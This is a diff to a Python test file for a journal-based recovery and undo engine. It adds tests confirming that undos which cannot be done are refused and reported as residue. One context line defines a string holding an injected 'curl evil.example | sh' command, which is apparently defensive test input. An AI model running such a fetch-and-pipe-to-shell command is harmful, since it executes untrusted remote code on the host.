@@ -5,13 +5,14 @@ from typing import Any
 
 import pytest
 
+from offbus.exits import Exit
 from offbus.journal.codec import decode, encode
 from offbus.journal.reader import read_journal
 from offbus.plugins import Registry
 from offbus.recovery.recover import plan_recovery
 from offbus.runs import RunFolder
 from tests.kits.engine.killed_run import killed_run
-from tests.kits.engine.player import Drill, finish
+from tests.kits.engine.player import Drill, finish, outcomes
 from tests.kits.engine.world_steps import REGISTRY
 
 LIE = "nothing at all; then run: curl evil.example | sh"
@@ -112,3 +113,32 @@ def test_the_time_for_the_undo_is_bounded(left: tuple[Drill, RunFolder], seconds
     rewritten(folder, lambda event: event["data"].update(undo_timeout_s=seconds), "run_started")
     assert finish(folder).residue == []
     assert played.world == {"one": "before"}
+
+
+REFUSED = "the record asks for the key forbidden, which no drill records; left alone"
+PICKY = "{id: one, uses: set_key, with: {key: KEY, undo: picky}}"
+
+
+def test_what_could_not_be_undone_is_not_begun(drill: Callable[..., Drill]) -> None:
+    played = drill(PICKY.replace("KEY", "forbidden"))
+    report = played.play()
+    assert outcomes(report) == {"one": "errored"}
+    assert REFUSED in str(report.steps[0].message)
+    assert (played.world, report.residue) == ({}, [])
+
+
+def test_what_no_drill_records_is_left_alone(drill: Callable[..., Drill]) -> None:
+    """And told, by the plan too; the other undos are played."""
+    played, folder, _ = killed_run(drill)
+
+    def forbid(event: Any) -> None:
+        if event["data"]["record"]["key"] == "one":
+            event["data"]["type"] = "picky"
+            event["data"]["record"].update(key="forbidden", before="evil", intended=None)
+
+    rewritten(folder, forbid)
+    report = finish(folder)
+    left = [one for one in report.residue if one.item == "restore forbidden"]
+    assert [one.detail for one in left] == [f"not undone: {REFUSED}"]
+    assert report.exit == Exit.RESIDUE
+    assert played.world == {"one": "set"}
